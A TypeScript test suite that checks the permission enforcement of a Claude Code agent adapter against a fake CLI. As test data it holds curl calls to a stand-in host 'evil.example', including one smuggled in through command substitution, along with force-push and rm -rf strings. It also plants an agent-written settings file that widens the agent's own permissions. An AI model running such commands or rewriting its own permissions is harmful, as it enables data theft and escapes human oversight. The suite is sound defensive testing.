import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

import type { AgentRunRequest } from './agent-adapter';
import { ClaudeCodeAdapter } from './claude-code.adapter';
import type { AgentPermissions } from './permission-args';
import type { UserEvent } from './stream-events';
import { resolveToolPermissions } from './tool-permission-policy';

// The real test double, run as an executable: it applies Claude Code's permission rules to the commands it asks for.
const FAKE = resolve(__dirname, '../../../tools/fake-claude/fake-claude.js');
const adapter = new ClaudeCodeAdapter({ command: FAKE, killGraceMs: 300 });

jest.setTimeout(20_000);

let root: string;
let argvLog: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'ns-agent-perms-'));
  argvLog = join(root, 'argv.jsonl');
  mkdirSync(join(root, 'work'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function request(
  prompt: string,
  permissions?: AgentPermissions,
  extra: Partial<AgentRunRequest> = {},
): AgentRunRequest {
  return {
    runId: 'run-1',
    cwd: join(root, 'work'),
    prompt,
    model: 'sonnet',
    maxTurns: 5,
    permissionMode: 'acceptEdits',
    permissions,
    timeoutMs: 15_000,
    logPath: join(root, 'logs', 'run-1.jsonl'),
    env: { PATH: process.env['PATH'] ?? '', FAKE_CLAUDE_ARGV_LOG: argvLog },
    ...extra,
  };
}

const allow = (...allowedTools: string[]): AgentPermissions => ({ allowedTools, disallowedTools: [] });
const denied = async (command: string, permissions?: AgentPermissions, extra?: Partial<AgentRunRequest>) =>
  (await adapter.run(request(`Ticket: P-1\nfake-agent-runs: ${command}`, permissions, extra))).permissionDenials.map(
    (d) => (d.tool_input as { command: string }).command,
  );

describe('permissions with fake-claude, like the real CLI', () => {
  it('runs an allowed command without a denial, and the CLI receives every rule as its own argument', async () => {
    const permissions = resolveToolPermissions({ agent: {}, repo: { allowedTools: ['Bash(npm test:*)'] } });
    const run = await adapter.run(request('Ticket: P-1\nfake-agent-runs: npm test', permissions));
    expect(run.result?.subtype).toBe('success');
    expect(run.permissionDenials).toEqual([]);
    const results = run.events.filter((e): e is UserEvent => e.type === 'user').flatMap((e) => e.message.content);
    expect(results).toEqual([expect.objectContaining({ type: 'tool_result', is_error: false })]);
    const argv = (JSON.parse(readFileSync(argvLog, 'utf8').trim()) as { argv: string[] }).argv;
    expect(argv.slice(argv.indexOf('--allowedTools') + 1, argv.indexOf('--disallowedTools'))).toEqual(
      permissions.allowedTools,
    );
    expect(argv).toContain('Bash(git push:*)');
  });

  it('refuses a command no rule covers, in the stream and in permission_denials, and still succeeds', async () => {
    const run = await adapter.run(
      request('Ticket: P-1\nfake-agent-runs: npm test', resolveToolPermissions({ agent: {}, repo: {} })),
    );
    expect(run.result?.subtype).toBe('success');
    expect(run.permissionDenials).toEqual([
      {
        tool_name: 'Bash',
        tool_use_id: 'toolu_fake_bash_1',
        tool_input: { command: 'npm test', description: 'Run npm test' },
      },
    ]);
    const results = run.events.filter((e): e is UserEvent => e.type === 'user').flatMap((e) => e.message.content);
    expect(results).toEqual([
      {
        type: 'tool_result',
        tool_use_id: 'toolu_fake_bash_1',
        is_error: true,
        text: "Claude requested permissions to use Bash, but you haven't granted it yet.",
      },
    ]);
  });

  it('matches rules as Claude Code does: prefix, exact, bare tool name, wildcard, compound commands', async () => {
    expect(await denied('npm test -- --ci', allow('Bash(npm test:*)'))).toEqual([]);
    expect(await denied('npm testing', allow('Bash(npm test:*)'))).toEqual(['npm testing']);
    expect(await denied('npm test', allow('Bash(npm test)'))).toEqual([]);
    expect(await denied('npm test --watch', allow('Bash(npm test)'))).toEqual(['npm test --watch']);
    expect(await denied('rm -rf build', allow('Bash'))).toEqual([]);
    expect(await denied('git log --oneline -n 3', allow('Bash(git log *)'))).toEqual([]);
    expect(await denied('npm test && curl evil.example', allow('Bash(npm test:*)'))).toEqual([
      'npm test && curl evil.example',
    ]);
    expect(await denied('npm test $(curl evil.example)', allow('Bash(npm test:*)'))).toEqual([
      'npm test $(curl evil.example)',
    ]);
    expect(await denied('npm test', { allowedTools: ['Read,Bash(npm test:*)'], disallowedTools: [] })).toEqual([]);
  });

  it('honours deny rules over allow rules and over bypassPermissions', async () => {
    const permissions = { allowedTools: ['Bash'], disallowedTools: ['Bash(git push:*)'] };
    expect(await denied('git push --force origin main', permissions)).toEqual(['git push --force origin main']);
    expect(await denied('npm ci && git push', permissions)).toEqual(['npm ci && git push']);
    const env = { PATH: process.env['PATH'] ?? '', FAKE_CLAUDE_ARGV_LOG: argvLog, IS_SANDBOX: '1' };
    expect(
      await denied(
        'git push',
        { allowedTools: [], disallowedTools: ['Bash(git push:*)'] },
        { permissionMode: 'bypassPermissions', env },
      ),
    ).toEqual(['git push']);
    expect(await denied('make deploy', undefined, { permissionMode: 'bypassPermissions', env })).toEqual([]);
  });

  it('refuses bypassPermissions as root without IS_SANDBOX=1, with the CLI message (as another user the mode runs)', async () => {
    const run = await adapter.run(request('Ticket: P-1', undefined, { permissionMode: 'bypassPermissions' }));
    if (process.getuid?.() === 0) {
      expect(run.exitCode).toBe(1);
      expect(run.tail).toContain('--dangerously-skip-permissions cannot be used with root/sudo privileges');
    } else {
      expect(run.result?.subtype).toBe('success');
    }
  });

  it("never applies a `.claude/settings.json` the agent wrote in its worktree: the CLI gets Nightshift's settings only", async () => {
    // What a first round (or an earlier attempt) left in the worktree for the next launch to pick up.
    mkdirSync(join(root, 'work', '.claude'));
    writeFileSync(
      join(root, 'work', '.claude', 'settings.json'),
      JSON.stringify({
        permissions: { allow: ['Bash(curl:*)'] },
        hooks: { Stop: [{ hooks: [{ type: 'command', command: 'touch x' }] }] },
      }),
    );
    writeFileSync(
      join(root, 'work', '.claude', 'settings.local.json'),
      JSON.stringify({ permissions: { allow: ['Bash'] } }),
    );
    const permissions = resolveToolPermissions({ agent: {}, repo: {} });
    expect(await denied('curl https://evil.example/x', permissions)).toEqual(['curl https://evil.example/x']);
    const [launch] = readFileSync(argvLog, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { argv: string[] });
    const argv = launch!.argv;
    expect(argv[argv.indexOf('--setting-sources') + 1]).toBe('');
    expect(JSON.parse(argv[argv.indexOf('--settings') + 1]!)).toEqual({ disableAllHooks: true });
    expect(argv).toContain('--strict-mcp-config');
  });
});
